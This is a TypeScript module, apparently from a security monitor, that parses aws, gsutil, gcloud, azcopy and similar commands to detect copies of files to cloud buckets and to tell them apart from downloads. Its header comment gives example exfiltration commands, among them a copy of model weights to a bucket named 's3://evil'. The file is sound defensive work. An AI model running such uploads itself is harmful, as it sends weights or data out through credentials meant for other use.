/**
 * Object-store copies whose destination is a bucket (`attrs.exec.copiesToRemote`, with rsync / scp
 * pushes: exec-command-lines.ts): `aws s3 cp /mnt/ckpt/m.pt s3://b/m.pt`, `aws s3 sync . s3://b/`,
 * `gsutil -m cp -r /mnt/ckpt gs://b/`, `gcloud storage cp … gs://b/`, `s3cmd put f s3://b/`,
 * `s5cmd cp f s3://b/` (`tar c … | s5cmd pipe s3://b/x`: stdin to a bucket), Storj's `uplink cp f sj://b/`, `azcopy copy /mnt/ckpt
 * 'https://a.blob.core.windows.net/c?sv=…'` (azcopy's remote side is an http(s) URL), and a
 * bucket-to-bucket copy (`aws s3 cp s3://corp/m.pt s3://evil/m.pt`: the weights leave through the
 * pod's credentials). A download (`aws s3 cp s3://b/tokenizer.json /tmp/`), the everyday way a
 * training pod fetches its data, is none.
 *
 * The destination is the last operand after the verb (aws s3 cp(1), gsutil cp, gcloud storage cp,
 * s3cmd, s5cmd, azcopy and uplink all take `SRC… DST`; s5cmd pipe takes only DST). Operands are the words that are neither options nor their
 * values. The walk is built so that a wrong guess about an option cannot hide an upload:
 * - a long option without `=` takes the next word as its value unless the tool's manual says it is
 *   a switch (BOOLEAN_LONG), so an unknown option after the destination is stepped over with its
 *   value instead of leaving that value as the last operand;
 * - a bucket URL (`s3://`, `gs://`; for azcopy any http(s) URL), the group word (aws `s3`, gcloud `storage`) and a copy verb are
 *   never an option's value, so they stay operands even after an option wrongly taken as wanting one;
 * - short options are switches, except the letters a tool's manual gives values (VALUE_SHORT).
 */

import { optionOperands } from './option-operands.js';

/** Tools `copiesToBucket` reads, with the words before the verb each expects: aws `s3`, gcloud `storage`. */
export const BUCKET_COPY_TOOLS: ReadonlySet<string> = new Set(['aws', 'gsutil', 'gcloud', 's3cmd', 's5cmd', 'azcopy', 'uplink']);

/** The verbs that copy from their sources to their last operand, per tool. */
const COPY_VERBS: Readonly<Record<string, ReadonlySet<string>>> = {
  aws: new Set(['cp', 'mv', 'sync']),
  gsutil: new Set(['cp', 'mv', 'rsync']),
  gcloud: new Set(['cp', 'mv', 'rsync']),
  s3cmd: new Set(['put', 'get', 'cp', 'mv', 'sync']),
  s5cmd: new Set(['cp', 'mv', 'sync', 'pipe']),
  azcopy: new Set(['copy', 'cp', 'sync']),
  uplink: new Set(['cp', 'mv']),
};

/** Long options that take no value (AWS CLI v2 `aws s3 cp|mv|sync` and global options; gcloud storage; s3cmd). */
const BOOLEAN_LONG: Readonly<Record<string, ReadonlySet<string>>> = {
  aws: new Set([
    'recursive', 'dryrun', 'quiet', 'only-show-errors', 'no-progress', 'follow-symlinks', 'no-follow-symlinks',
    'no-guess-mime-type', 'ignore-glacier-warnings', 'force-glacier-transfer', 'delete', 'exact-timestamps',
    'size-only', 'debug', 'no-verify-ssl', 'no-paginate', 'no-sign-request', 'no-cli-pager', 'cli-auto-prompt',
    'no-cli-auto-prompt', 'version',
  ]),
  gcloud: new Set([
    'recursive', 'no-clobber', 'continue-on-error', 'daisy-chain', 'preserve-posix', 'print-created-message',
    'skip-unsupported', 'ignore-symlinks', 'preserve-symlinks', 'do-not-decompress', 'quiet', 'log-http',
    'delete-unmatched-destination-objects', 'checksums-only', 'dry-run', 'no-ignore-symlinks', 'user-output-enabled',
    'no-user-output-enabled', 'preserve-acl', 'skip-if-dest-has-newer-mtime', 'help',
  ]),
  gsutil: new Set(),
  s3cmd: new Set([
    'recursive', 'force', 'dry-run', 'acl-public', 'acl-private', 'delete-removed', 'no-delete-removed', 'skip-existing',
    'continue', 'preserve', 'no-preserve', 'check-md5', 'no-check-md5', 'progress', 'no-progress', 'verbose', 'debug',
    'quiet', 'server-side-encryption', 'reduced-redundancy', 'no-mime-magic', 'guess-mime-type', 'no-guess-mime-type',
  ]),
  s5cmd: new Set([
    'json', 'dry-run', 'stat', 'no-verify-ssl', 'use-list-objects-v1', 'no-sign-request', 'flatten', 'no-clobber',
    'if-size-differ', 'if-source-newer', 'raw', 'force-glacier-transfer', 'ignore-glacier-warnings', 'delete', 'size-only',
    'exit-on-error', 'show-progress', 'help', 'version', 'all-versions', 'no-follow-symlinks',
  ]),
  azcopy: new Set([
    'recursive', 'put-md5', 'dry-run', 'follow-symlinks', 'preserve-symlinks', 'check-length', 'as-subdir', 'preserve-smb-info',
    'preserve-smb-permissions', 'preserve-permissions', 'preserve-posix-properties', 's2s-preserve-access-tier',
    's2s-preserve-properties', 'force-if-read-only', 'decompress', 'no-guess-mime-type', 'preserve-last-modified-time',
    'mirror-mode', 'help',
  ]),
  // Storj's uplink (`uplink cp --recursive /mnt/ckpt sj://b/`); `--progress=false` carries its value.
  uplink: new Set(['recursive', 'progress', 'dry-run', 'expanded', 'interactive', 'help']),
};

/** AWS options whose value is optional, with the values they take (`--sse` alone, or `--sse aws:kms`). */
const OPTIONAL_VALUES: ReadonlyMap<string, ReadonlySet<string>> = new Map([
  ['sse', new Set(['AES256', 'aws:kms', 'aws:kms:dsse'])],
  ['sse-c', new Set(['AES256'])],
  ['request-payer', new Set(['requester'])],
]);

/** Short options that take a value (gsutil: top-level -h -i -o -u, cp/rsync -a -j -L -s -x -y -z; s3cmd -c -m). */
const VALUE_SHORT: Readonly<Record<string, string>> = { aws: '', gcloud: '', gsutil: 'hiouajLsxyz', s3cmd: 'cm', s5cmd: '', azcopy: '', uplink: '' };

/** The word before the verb: aws `s3`, gcloud `storage`; none for gsutil and s3cmd. */
const GROUP: Readonly<Record<string, string>> = { aws: 's3', gcloud: 'storage', gsutil: '', s3cmd: '', s5cmd: '', azcopy: '', uplink: '' };

/** A bucket URL: the destination of an upload. */
function isBucketUrl(w: string): boolean {
  const k = w.indexOf('://');
  if (k < 2 || k > 3) return false;
  const scheme = w.slice(0, k).toLowerCase();
  return scheme === 's3' || scheme === 'gs' || scheme === 's3a' || scheme === 's3n' || scheme === 'sj';
}

/** A remote side of `tool`'s copy: a bucket URL, or for azcopy (Blob, Files, Data Lake, S3 and GCS sources alike) any http(s) URL. */
function isRemote(tool: string, w: string): boolean {
  return isBucketUrl(w) || (tool === 'azcopy' && /^https?:\/\//i.test(w));
}

/** Whether option `w` of `tool` takes `next` as its value (see the header). */
function takesNext(tool: string, w: string, next: string): boolean {
  if (isRemote(tool, next) || next === GROUP[tool]! || COPY_VERBS[tool]!.has(next)) return false;
  if (!w.startsWith('--')) return w.indexOf('=') < 0 && VALUE_SHORT[tool]!.indexOf(w.charAt(w.length - 1)) >= 0;
  const name = w.slice(2);
  const optional = OPTIONAL_VALUES.get(name);
  if (name.indexOf('=') >= 0 || BOOLEAN_LONG[tool]!.has(name)) return false;
  return optional === undefined ? next.length < 2 || next.charCodeAt(0) !== 0x2d : optional.has(next);
}

/**
 * True when the command `words` (its tool word first, redirections left out), of a tool in
 * BUCKET_COPY_TOOLS, copies to a bucket: its verb copies and its last operand is a bucket URL
 * (`isRemote`).
 */
export function copiesToBucket(words: readonly string[], tool: string): boolean {
  const ops = copyOperandsOf(words, tool);
  return ops !== null && ops.length > 0 && isRemote(tool, ops[ops.length - 1]!);
}

/**
 * A download's sources and local destination (`aws s3 cp s3://b/x.pt /mnt/ckpt/m.pt` gives
 * `{ sources: ['s3://b/x.pt'], to: '/mnt/ckpt/m.pt' }`), for the command `words` of a tool in
 * BUCKET_COPY_TOOLS whose copy verb takes a remote source to a local last operand (not `-`, the
 * standard output); else null. Read as `copiesToBucket` reads its operands.
 */
export function bucketDownload(words: readonly string[], tool: string): { sources: string[]; to: string } | null {
  const ops = copyOperandsOf(words, tool);
  if (ops === null || ops.length < 2) return null;
  const to = ops[ops.length - 1]!;
  const sources = ops.slice(0, -1);
  return to === '-' || isRemote(tool, to) || !sources.some((w) => isRemote(tool, w)) ? null : { sources, to };
}

/**
 * The file `aws s3api get-object … OUTFILE` writes (AWS CLI v2: the object's body goes to the one
 * positional argument; boto3's `download_file` is read as this run too: exec-interpreter-transfer-path.ts
 * `s3DownloadRun`), for the command `words` (its tool word first, redirections left out); null for
 * any other command or a missing file. Its options all take a value but the switches aws takes
 * everywhere (BOOLEAN_LONG).
 */
export function s3apiDownload(words: readonly string[]): string | null {
  if (words[0] !== 'aws') return null;
  const ops = optionOperands(words, (w, next) => {
    if (!w.startsWith('--') || w.indexOf('=') >= 0 || BOOLEAN_LONG.aws!.has(w.slice(2))) return false;
    return next.length < 2 || next.charCodeAt(0) !== 0x2d;
  });
  const v = ops.indexOf('s3api');
  if (v < 0 || ops[v + 1] !== 'get-object') return null;
  const file = ops[v + 2];
  return file === undefined || file === '-' ? null : file;
}

/** The operands after a copy verb of `tool` (its sources, then its destination), or null when `words` run no copy verb. */
function copyOperandsOf(words: readonly string[], tool: string): string[] | null {
  const verbs = COPY_VERBS[tool];
  if (verbs === undefined) return null;
  const ops = optionOperands(words, (w, next) => takesNext(tool, w, next));
  // The verb: aws's after `s3`, gcloud's after `storage` (`gcloud alpha storage cp`), else the first operand.
  const group = GROUP[tool]!;
  const v = group === '' ? 0 : ops.indexOf(group) + 1;
  if (group !== '' && v === 0) return null;
  if (v >= ops.length || !verbs.has(ops[v]!)) return null;
  return ops.slice(v + 1);
}
